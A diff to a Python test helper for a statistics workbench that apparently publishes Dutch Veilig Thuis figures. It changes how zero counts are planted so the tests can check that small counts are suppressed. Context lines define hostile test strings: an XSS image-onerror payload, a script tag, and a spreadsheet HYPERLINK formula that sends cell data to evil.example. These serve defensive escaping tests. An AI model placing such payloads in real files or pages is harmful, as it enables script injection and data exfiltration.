@@ -8,6 +8,8 @@ from pathlib import Path
 import pandas as pd
 import yaml
 
+from workbench.io.statline import VT_FILES
+
 EVIL_GEMEENTE = "Bunnik <img src=x onerror=alert(1)> \"quote\" 'single' & Súdwest"
 EVIL_CENTRUM = 'Delft <script>alert("x")</script>'
 EVIL_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Houten")'
@@ -56,18 +58,18 @@ ZERO_GEMEENTE = ("GM0589", "Oudewater")
 
 
 def plant_zeros(data: Path) -> None:
-    """Publish every 2024 cell of :data:`ZERO_GEMEENTE` as '0' (meldingen) or '-' (adviezen, melders).
+    """Publish every 2024 cell of :data:`ZERO_GEMEENTE` as '0' (meldingen) or '-' (adviezen) in every VT table.
 
     Both are counts in 0–7, so every page and every download must show them as secret ('.'), never as 0.
     """
     code = ZERO_GEMEENTE[0]
-    for name in ("84851NED_demo.csv", "84849NED_demo.csv"):  # columns: ...;GestarteAdviezen_1;OntvangenMeldingen_2
-        path = data / "veilig_thuis" / name
+    for relative in VT_FILES.values():  # columns: ID;RegioS;Perioden;category;topics (adviezen before meldingen)
+        path = data / relative
         lines = path.read_text(encoding="utf-8").splitlines()
         for i, line in enumerate(lines):
             cells = line.split(";")
             if cells[1].strip('"').strip() == code and cells[2].startswith('"2024'):
-                lines[i] = ";".join([*cells[:4], '"-"', '"0"'])
+                lines[i] = ";".join([*cells[:4], *['"-"', '"0"'][-(len(cells) - 4) :]])
         path.write_text("\n".join(lines) + "\n", encoding="utf-8")
 
 
